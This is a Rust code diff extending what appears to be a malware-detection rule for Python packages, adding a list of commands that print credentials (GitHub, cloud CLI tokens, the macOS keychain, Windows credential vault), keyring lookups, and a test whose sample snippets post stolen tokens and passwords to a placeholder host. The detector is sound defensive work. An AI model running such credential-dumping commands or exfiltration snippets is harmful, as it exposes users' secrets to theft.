@@ -344,8 +344,23 @@ pub fn classify_call(
             SourceKind::Secret,
         ));
     }
+    if let Some(command) = credential_command(checker, qualname, call) {
+        return Some((
+            format!("credentials printed by `{command}`"),
+            SourceKind::Secret,
+        ));
+    }
     if let Some(command) = recon_command(checker, qualname, call) {
         return Some((format!("output of `{command}`"), SourceKind::SystemInfo));
+    }
+    if matches!(
+        qualname,
+        "keyring.get_password" | "keyring.get_credential" | "keyring.core.get_password"
+    ) {
+        return Some((
+            format!("a password from the system keyring ({qualname})"),
+            SourceKind::Secret,
+        ));
     }
     if reads_browser_cookies(qualname) {
         return Some((format!("browser cookies ({qualname})"), SourceKind::Secret));
@@ -502,8 +517,38 @@ const RECON_COMMANDS: &[&str] = &[
     "curl ifconfig",
 ];
 
-/// The recon command whose output a call returns (`os.popen('hostname').read()`, `check_output(['whoami'])`).
-fn recon_command(checker: &Checker, qualname: &str, call: &ExprCall) -> Option<String> {
+/// Commands whose output is a credential: credential helpers and cloud CLIs asked for tokens,
+/// the macOS keychain and Windows' credential vault.
+const CREDENTIAL_COMMANDS: &[&str] = &[
+    "git credential fill",
+    "gh auth token",
+    "gh auth status --show-token",
+    "gcloud auth print-access-token",
+    "gcloud auth application-default print-access-token",
+    "az account get-access-token",
+    "aws configure export-credentials",
+    "aws sts get-session-token",
+    "security find-generic-password",
+    "security find-internet-password",
+    "security dump-keychain",
+    "cmdkey /list",
+    "vaultcmd /listcreds",
+];
+
+/// The credential command whose output a call returns (`subprocess.check_output(['gh', 'auth',
+/// 'token'])`, `subprocess.run(['git', 'credential', 'fill'], capture_output=True)`).
+fn credential_command(checker: &Checker, qualname: &str, call: &ExprCall) -> Option<String> {
+    let command = command_of_output(checker, qualname, call)?;
+    let trimmed = command.trim();
+    CREDENTIAL_COMMANDS
+        .iter()
+        .any(|known| trimmed == *known || trimmed.starts_with(&format!("{known} ")))
+        .then(|| crate::text::shorten(trimmed, 60))
+}
+
+/// The command whose output a call returns: `os.popen(c).read()`, `check_output(c)`,
+/// `getoutput(c)`, `subprocess.run(c, capture_output=True)`.
+fn command_of_output(checker: &Checker, qualname: &str, call: &ExprCall) -> Option<String> {
     let command_expr = match qualname {
         "os.popen().read" | "os.popen().readline" | "os.popen().readlines" => match &*call.func {
             Expr::Attribute(attribute) => match &*attribute.value {
@@ -525,7 +570,12 @@ fn recon_command(checker: &Checker, qualname: &str, call: &ExprCall) -> Option<S
         }
         _ => return None,
     };
-    let command = super::command_text(checker, command_expr)?;
+    super::command_text(checker, command_expr)
+}
+
+/// The recon command whose output a call returns (`os.popen('hostname').read()`, `check_output(['whoami'])`).
+fn recon_command(checker: &Checker, qualname: &str, call: &ExprCall) -> Option<String> {
+    let command = command_of_output(checker, qualname, call)?;
     let trimmed = command.trim();
     RECON_COMMANDS
         .iter()
@@ -715,6 +765,26 @@ mod tests {
         assert!(is_browser_profile_file("logins.json"));
         assert!(is_browser_profile_file("Login Data"));
         assert!(!is_browser_profile_file("settings.json"));
+    }
+
+    #[test]
+    fn credential_helpers_and_the_keyring_are_secret_sources() {
+        use crate::rules::testing::max_severity;
+        for read in [
+            "subprocess.check_output(['gh', 'auth', 'token']).decode()",
+            "subprocess.run(['git', 'credential', 'fill'], input='host=github.com', capture_output=True, text=True).stdout",
+            "keyring.get_password('system', 'login')",
+        ] {
+            let code = format!(
+                "import subprocess, keyring, requests\nrequests.post('https://x.invalid/t', data={{'t': {read}}})\n"
+            );
+            assert!(
+                max_severity("p-1/pkg/__init__.py", &code, "WH200") >= 0.85,
+                "{read}"
+            );
+        }
+        let status = "import subprocess, requests\nrequests.post('https://x.invalid/t', data=subprocess.check_output(['gh', 'auth', 'status']))\n";
+        assert!(max_severity("p-1/pkg/__init__.py", status, "WH200") < 0.85);
     }
 
     #[test]
